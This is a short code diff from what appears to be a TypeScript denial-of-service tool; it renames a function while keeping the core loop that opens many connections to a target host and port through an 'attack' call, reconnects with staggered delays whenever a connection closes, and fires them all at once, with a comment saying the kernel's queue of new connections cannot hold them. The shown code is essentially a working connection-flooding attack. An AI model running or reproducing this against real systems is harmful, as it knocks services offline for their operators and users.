@@ -7,14 +7,14 @@ const aim = { host: hostname, port: Number(port), from };
 // A stranger who is turned away comes back, one connection after the other, without spending the machine on it.
 const BACK_AFTER_MS = 5_000;
 
-async function keepOpen(place: number): Promise<void> {
-  const comeBack = () => setTimeout(keepOpen, BACK_AFTER_MS * (0.5 + place / connections), place);
+async function holdOpen(place: number): Promise<void> {
+  const comeBack = () => setTimeout(holdOpen, BACK_AFTER_MS * (0.5 + place / connections), place);
   await attack(aim).then((socket) => socket.once('close', comeBack), comeBack);
 }
 
 // All at once is what the kernel's queue of new connections cannot hold.
 for (let begun = 0; begun < connections; begun++) {
-  void keepOpen(begun);
+  void holdOpen(begun);
   if (begun % 50 === 0) await new Promise((next) => setImmediate(next));
 }
 console.log('begun');
